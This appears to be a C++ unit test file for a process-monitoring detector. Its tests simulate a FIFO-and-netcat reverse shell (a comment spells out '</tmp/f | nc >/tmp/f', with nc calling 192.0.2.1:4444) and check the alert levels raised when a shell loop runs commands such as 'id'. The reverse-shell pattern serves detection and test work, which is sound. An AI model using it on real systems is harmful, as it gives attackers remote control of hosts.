// SPDX-License-Identifier: Apache-2.0
// Does a loop run what comes in? Told as small scenes around a FIFO, judged by the whole detector.
#include "pipe/conduct.hpp"

#include <boost/test/unit_test.hpp>

#include "detect/detector.hpp"
#include "support/history.hpp"

using namespace pipehound;
using event::Level;
using test::History;
using Mode = History::Mode;

namespace {

// LOOP </tmp/f | nc >/tmp/f, where the loop is a fork of the shell that runs `script`.
struct Fixture {
    event::NodeNames nodes;
    detect::Detector detector{nodes};
    History history;

    void begin(std::vector<std::string> script) {
        history.exec(100, 1, std::move(script));
        history.make_fifo(101, 100, "/tmp/f");
        history.open(103, 100, "bash", Mode::read);
        history.open(104, 100, "bash", Mode::write);
        history.exec(104, 100, {"nc", "192.0.2.1", "4444"});
        history.connect(104, 100, "nc");
    }
    // The loop has `line` run by a shell.
    void hand(int pid, const std::string& line) {
        history.wait(event::Duration{300});
        history.exec(pid, 103, {"sh", "-c", line});
    }
    Level judge() {
        auto level = Level::informational;
        const auto note = [&](const std::vector<alert::Alert>& alerts) {
            for (const auto& alert : alerts) level = std::max(level, alert.level);
        };
        for (const auto& event : history.events()) note(detector.advance(event));
        note(detector.expire(event::Time::max()));
        return level;
    }
};

}  // namespace

BOOST_AUTO_TEST_SUITE(conduct_tests)

BOOST_FIXTURE_TEST_CASE(a_loop_that_ran_nothing_yet_is_low_at_most, Fixture) {
    begin({"bash", "job.sh"});
    BOOST_TEST((judge() <= Level::low));
}

BOOST_FIXTURE_TEST_CASE(a_loop_that_hands_differing_lines_to_a_shell_obeys, Fixture) {
    begin({"bash", "job.sh"});
    hand(200, "id");
    hand(202, "uname -a");
    BOOST_TEST((judge() == Level::critical));
}

BOOST_FIXTURE_TEST_CASE(one_line_from_whom_it_called_is_likely, Fixture) {
    begin({"bash", "job.sh"});
    hand(200, "id");
    BOOST_TEST((judge() == Level::high));
}

BOOST_FIXTURE_TEST_CASE(a_loop_whose_visible_text_names_all_that_it_runs_is_low, Fixture) {
    begin({"bash", "-c", "while read -r l; do sh -c 'date'; sh -c 'uptime'; done"});
    hand(200, "date");
    hand(202, "uptime");
    BOOST_TEST((judge() == Level::low));
}

BOOST_FIXTURE_TEST_CASE(a_loop_that_runs_what_its_visible_text_does_not_name_obeys, Fixture) {
    begin({"bash", "-c", "while read -r l; do $l; done"});
    history.exec(200, 103, {"id"});
    BOOST_TEST((judge() == Level::critical));
}

BOOST_FIXTURE_TEST_CASE(what_sets_up_a_terminal_is_nobodys_command, Fixture) {
    begin({"bash", "job.sh"});
    hand(200, "/bin/stty sane < /dev/pts/0");
    BOOST_TEST((judge() == Level::low));
}

BOOST_AUTO_TEST_SUITE_END()
